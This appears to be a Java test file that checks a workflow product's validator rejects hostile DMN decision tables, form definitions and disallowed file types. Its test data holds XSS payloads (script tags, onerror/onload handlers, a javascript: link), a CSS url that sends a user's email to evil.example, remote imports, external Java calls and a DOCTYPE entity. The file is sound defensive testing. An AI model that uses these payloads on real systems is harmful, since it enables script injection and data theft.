package io.nextup.process.models;

import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.junit.jupiter.params.provider.Arguments.arguments;

import io.nextup.problem.BadInput;
import io.nextup.process.plugin.DeployedFiles;
import io.nextup.testing.NextUpTest;
import java.nio.charset.StandardCharsets;
import java.util.Map;
import java.util.stream.Stream;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.MethodSource;

/** Decisions, forms and other files that would run, fetch or show what is not NextUp's. */
@NextUpTest
class HostileFilesTest {

    private static final String DMN = """
            <?xml version="1.0" encoding="UTF-8"?>
            <definitions xmlns="https://www.omg.org/spec/DMN/20191111/MODEL/" xmlns:camunda="http://camunda.org/schema/1.0/dmn" id="drd" name="Routing" namespace="http://camunda.org/schema/1.0/dmn">
            <decision id="routing" name="Routing" camunda:historyTimeToLive="P180D">
            <decisionTable id="table" hitPolicy="RULE ORDER">
            <input id="in"><inputExpression id="ask" typeRef="string"><text>city</text></inputExpression></input>
            <output id="out" name="users" />
            <rule id="row"><inputEntry id="cell"><text>"Head of function","London"</text></inputEntry>
            <outputEntry id="answer"><text>["tom"]</text></outputEntry></rule>
            </decisionTable></decision></definitions>
            """;

    private static final String FORM = """
            {"id": "mine", "type": "default", "schemaVersion": 16, "components": [
              {"id": "field", "key": "note", "type": "textfield", "label": "Note", "layout": {"row": "r"}},
              {"id": "view", "type": "html", "label": "View", "content": "<style>p { color: red }</style><p>Hi</p>"}]}
            """;

    private final DeployedFiles rules;

    HostileFilesTest(DeployedFiles rules) {
        this.rules = rules;
    }

    static Stream<Arguments> decisions() {
        String cell = "<text>\"Head of function\",\"London\"</text>";
        String java = "function(x) external { java: { class: \"java.lang.Math\", method signature: \"abs(double)\" } }";
        return Stream.of(
                arguments(
                        "<text>city</text>", "<text>{f: " + java + ", r: f(1)}.r</text>", "ask", "it may define none"),
                arguments(cell, "<text>/* \" */ {f: " + java + "}.f(1) /* \" */</text>", "cell", "it may define none"),
                arguments(
                        "<text>[\"tom\"]</text>",
                        "<text>{f: function(x) f(x)}.f(1)</text>",
                        "answer",
                        "it may define none"),
                arguments("<text>[\"tom\"]</text>", "<text>function(</text>", "answer", "it may define none"),
                arguments(
                        "id=\"cell\"",
                        "id=\"cell\" expressionLanguage=\"javascript\"",
                        "cell",
                        "NextUp speaks FEEL only"),
                arguments("id=\"cell\"", "id=\"cell\" expressionLanguage=\"juel\"", "cell", "NextUp speaks FEEL only"),
                arguments("id=\"ask\"", "id=\"ask\" expressionLanguage=\"groovy\"", "ask", "NextUp speaks FEEL only"),
                arguments(
                        "id=\"answer\"",
                        "id=\"answer\" expressionLanguage=\"juel\"",
                        "answer",
                        "NextUp speaks FEEL only"),
                arguments(
                        "id=\"drd\"",
                        "id=\"drd\" expressionLanguage=\"http://evil.example/\"",
                        "drd",
                        "NextUp speaks FEEL only"),
                arguments(
                        "id=\"routing\"",
                        "id=\"routing\" camunda:class=\"a\"",
                        "routing \"Routing\"",
                        "may not have camunda:class"),
                arguments(
                        "</decision>", "</decision><businessKnowledgeModel id=\"b\" />", "b", "a decision of its own"),
                arguments(
                        "</decision>",
                        "</decision><import namespace=\"a\" importType=\"b\" locationURI=\"http://evil.example\" />",
                        "drd",
                        "fetch nothing"),
                arguments(
                        "<decisionTable id",
                        "<informationRequirement id=\"r\"><requiredDecision href=\"http://evil.example/#a\" /></informationRequirement><decisionTable id",
                        "r",
                        "of the same file"),
                arguments(
                        "<?xml version=\"1.0\" encoding=\"UTF-8\"?>",
                        "<!DOCTYPE a [<!ENTITY b \"c\">]>",
                        "",
                        "DOCTYPE"));
    }

    static Stream<Arguments> forms() {
        String text = "<p>Hi</p>";
        return Stream.of(
                arguments("\"textfield\"", "\"iframe\"", ", field", "use texts, HTML views, tables and fields"),
                arguments("\"html\"", "\"image\"", ", view", "use texts, HTML views, tables and fields"),
                arguments("\"type\": \"textfield\", ", "", ", field", "use texts, HTML views, tables and fields"),
                arguments(text, "<script>alert(1)</script>", ", view", "holds what runs or fetches"),
                arguments(text, "<p onclick=alert(1)>", ", view", "holds what runs or fetches"),
                arguments(text, "<img src=x onerror=alert(1)>", ", view", "holds what runs or fetches"),
                arguments(text, "<a href='JavaScript:alert(1)'>x</a>", ", view", "holds what runs or fetches"),
                arguments(text, "<svg/onload=alert(1)>", ", view", "holds what runs or fetches"),
                arguments(
                        "color: red",
                        "background: url(//evil.example/{{email}})",
                        ", view",
                        "holds what runs or fetches"),
                arguments("\"Note\"", "\"<iframe srcdoc=x>\"", ", field", "holds what runs or fetches"),
                arguments("\"id\": \"mine\",", "", "", "with an id"),
                arguments("\"id\": \"mine\"", "\"id\": \"a\", \"id\": \"mine\"", "", "no well-formed JSON"),
                arguments(
                        "\"schemaVersion\": 16",
                        "\"x\": " + "[".repeat(100) + "]".repeat(100),
                        "",
                        "no well-formed JSON"),
                arguments("\"mine\"", "'mine'", "", "no well-formed JSON"));
    }

    @ParameterizedTest
    @MethodSource
    void decisions(String part, String otherwise, String place, String advice) {
        check("routing.dmn", DMN);
        refused("routing.dmn", DMN.replace(part, otherwise), place.isEmpty() ? "" : ", " + place, advice);
    }

    @ParameterizedTest
    @MethodSource
    void forms(String part, String otherwise, String place, String advice) {
        check("mine.form", FORM);
        refused("mine.form", FORM.replace(part, otherwise), place, advice);
    }

    @ParameterizedTest
    @CsvSource({
        "case.cmmn",
        "case.cmmn10.xml",
        "case.cmmn11.xml",
        "page.html",
        "code.js",
        "code.groovy",
        "picture.svg",
        "mine.bpmn.png",
        "minebpmn",
        "minebpmn20.xml",
        "minedmn",
        "mineform",
        "mine.BPMN",
        "archive.bar",
        "archive.zip"
    })
    void other_files_are_refused(String file) {
        refused(file, FORM, "", "deploy files that end in .bpmn, .dmn or .form only");
    }

    @ParameterizedTest
    @CsvSource({"a.bpmn", "a.bpmn20.xml", "a.dmn", "a.dmn11.xml"})
    void file_that_is_not_what_its_name_says_is_refused(String file) {
        refused(file, "<definitions/>", "", "is not what its name says");
        refused(file, FORM, "", "no well-formed XML");
    }

    private void refused(String file, String content, String place, String advice) {
        assertThatThrownBy(() -> check(file, content))
                .isInstanceOf(BadInput.class)
                .hasMessageContaining(file)
                .hasMessageContaining(place)
                .hasMessageContaining(advice)
                .hasMessageNotContaining("evil.example");
    }

    private void check(String file, String content) {
        rules.check(Map.of("some/folder/" + file, content.getBytes(StandardCharsets.UTF_8)));
    }
}
